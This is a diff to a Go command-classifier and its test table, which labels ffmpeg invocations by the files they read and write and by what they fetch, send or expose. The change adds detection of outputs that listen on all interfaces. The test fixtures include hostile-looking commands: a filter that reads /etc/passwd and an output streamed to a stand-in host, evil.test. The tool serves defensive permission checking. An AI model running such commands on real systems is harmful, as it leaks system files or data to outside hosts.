@@ -31,6 +31,7 @@ var ffmpegCases = []Case{
 	{`ffmpeg -i a.mov -vf scale=640:-1 out/f%03d.png`, `Read a.mov; Write out/f….png`},
 	{`ffmpeg -i a.mov -vf "movie=/etc/passwd" b.mp4`, `Read a.mov; Write b.mp4; Unknown a filter may read or write files`},
 	{`ffmpeg -i https://a/b.m3u8 b.mp4`, `Fetch https://a/b.m3u8; Write b.mp4`},
+	{`ffmpeg -i a.mov 'tcp://0.0.0.0:1?listen'`, `Read a.mov; Expose tcp://0.0.0.0:1?listen`}, {`ffmpeg -i a.mov -f mpegts tcp://localhost:1`, `Read a.mov; Send tcp://localhost:1`},
 	{`ffmpeg -i a.mov -f flv rtmp://evil.test/x`, `Read a.mov; Send rtmp://evil.test/x`},
 	{`ffmpeg -attach f -i a b.mkv`, `Read f; Read a; Write b.mkv`},
 	{`ffmpeg -i a -passlogfile p b.mp4`, `Write p; Read a; Write b.mp4`},
@@ -56,6 +57,8 @@ func ffmpegFiles(m *Match) {
 		case tee:
 			m.Unknown("an output of this form names others", w)
 		case w.Is("-") || w.Is("pipe:1"):
+		case isURL && (strings.Contains(w.Text, "0.0.0.0") || strings.Contains(w.Text, "[::]") || strings.Contains(w.Text, "listen")):
+			m.Add(Fact{Kind: automode.Expose, Word: w, Why: "lets other hosts take the result"})
 		case isURL && address:
 			m.Add(Fact{Role: Sends, Word: w, Kind: automode.Send, Why: "sends the result there"})
 		case isURL:
